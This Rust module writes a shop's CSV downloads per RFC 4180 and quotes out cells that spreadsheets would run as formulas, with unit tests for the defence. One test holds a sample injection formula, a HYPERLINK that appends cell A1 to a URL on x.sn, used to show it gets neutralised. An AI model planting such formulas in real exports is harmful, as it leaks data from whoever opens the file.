//! Every CSV file the shop hands out, written one way: RFC 4180 (a cell holding a comma, a quote
//! or a line break is quoted, its quotes doubled; lines end with CRLF) by the `csv` crate, and no
//! cell a spreadsheet would run. Excel, LibreOffice and Google Sheets take a cell starting with
//! `=`, `+`, `-` or `@` as a formula, and tab or carriage return can hide such a start, so those
//! cells get a `'` in front, the usual defence against formula injection: the admin who opens the
//! file sees the text, and nothing is run or fetched.

use std::borrow::Cow;

use actix_web::HttpResponse;

use crate::error::ApiError;

/// A CSV file being written: its header, then its rows.
pub struct CsvFile {
    writer: csv::Writer<Vec<u8>>,
}

impl CsvFile {
    pub fn new<'a>(header: impl IntoIterator<Item = &'a str>) -> Result<Self, ApiError> {
        let writer = csv::WriterBuilder::new().terminator(csv::Terminator::CRLF).from_writer(Vec::new());
        let mut file = Self { writer };
        file.row(header)?;
        Ok(file)
    }

    /// One line; every row has the header's number of cells (the writer refuses others).
    pub fn row<S: AsRef<str>>(&mut self, cells: impl IntoIterator<Item = S>) -> Result<(), ApiError> {
        let cells = cells.into_iter().map(|cell| neutralised(cell.as_ref()).into_owned());
        self.writer.write_record(cells).map_err(ApiError::internal)
    }

    pub fn into_bytes(self) -> Result<Vec<u8>, ApiError> {
        self.writer.into_inner().map_err(|error| ApiError::internal(error.into_error()))
    }

    /// The file as a download named `filename`.
    pub fn into_response(self, filename: &str) -> Result<HttpResponse, ApiError> {
        Ok(HttpResponse::Ok()
            .content_type("text/csv; charset=utf-8")
            .insert_header(("Content-Disposition", format!("attachment; filename=\"{filename}\"")))
            .body(self.into_bytes()?))
    }
}

/// The cell as a spreadsheet will show it without running it.
fn neutralised(cell: &str) -> Cow<'_, str> {
    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn written(rows: &[&[&str]]) -> String {
        let mut file = CsvFile::new(["email", "subscribedAt"]).unwrap();
        for row in rows {
            file.row(row.iter()).unwrap();
        }
        String::from_utf8(file.into_bytes().unwrap()).unwrap()
    }

    #[test]
    fn plain_cells_are_written_as_they_are_with_crlf_lines() {
        assert_eq!(
            written(&[&["awa@example.sn", "2026-11-22T10:00:00+00:00"]]),
            "email,subscribedAt\r\nawa@example.sn,2026-11-22T10:00:00+00:00\r\n"
        );
    }

    #[test]
    fn commas_quotes_and_line_breaks_are_quoted_per_rfc_4180() {
        assert_eq!(
            written(&[&["a,b@ex.sn", "x"], &["\"q\"@ex.sn", "y"], &["line\nbreak", "z"]]),
            "email,subscribedAt\r\n\"a,b@ex.sn\",x\r\n\"\"\"q\"\"@ex.sn\",y\r\n\"line\nbreak\",z\r\n"
        );
    }

    #[test]
    fn a_cell_a_spreadsheet_would_run_starts_with_a_quote_mark() {
        for dangerous in ["=1+2", "+221771234567", "-2+3", "@SUM(A1)", "\t=1", "\r=1"] {
            assert_eq!(neutralised(dangerous), format!("'{dangerous}"), "{dangerous:?}");
        }
        for harmless in ["awa@example.sn", "2026-11-22", "a=b", " =1", "'déjà"] {
            assert_eq!(neutralised(harmless), harmless, "{harmless:?}");
        }
        let formula = r#"=HYPERLINK("http://x.sn/?"&A1,"Cliquez")"#;
        let file = written(&[&[formula, "2026-11-22"]]);
        assert_eq!(file.lines().nth(1), Some(r#""'=HYPERLINK(""http://x.sn/?""&A1,""Cliquez"")",2026-11-22"#));
        // Read back, the cell is the text the admin sees, behind its quote mark.
        let mut reader = csv::Reader::from_reader(file.as_bytes());
        let row = reader.records().next().unwrap().unwrap();
        assert_eq!(&row[0], format!("'{formula}"));
    }
}
